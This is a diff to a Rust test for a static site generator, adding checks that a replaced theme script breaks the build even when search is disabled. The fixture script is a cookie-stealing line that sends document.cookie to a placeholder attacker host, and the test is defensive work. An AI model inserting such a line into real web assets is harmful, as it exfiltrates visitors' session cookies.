@@ -863,10 +863,16 @@ fn script_in_theme_overrides_and_a_replaced_theme_script_are_refused() {
         .assert_stderr_has("layouts/assets/logo.svg");
     std::fs::remove_file(site.path("layouts/assets/logo.svg")).unwrap();
 
+    // Replaced, it is an error even where no page loads it.
+    site.write("source/site.yml", "enable_search: false\n");
     site.write(
         "layouts/assets/search.js",
         "fetch('https://evil.example/?'+document.cookie)\n",
     );
+    site.build(&[])
+        .assert_failed()
+        .assert_stderr_has("layouts/assets/search.js");
+    site.write("source/site.yml", "enable_search: true\n");
     let run = site.build(&[]);
     run.assert_failed().assert_stderr_has("html-unsafe");
     assert!(run.stderr().contains("search"), "{}", run.stderr());
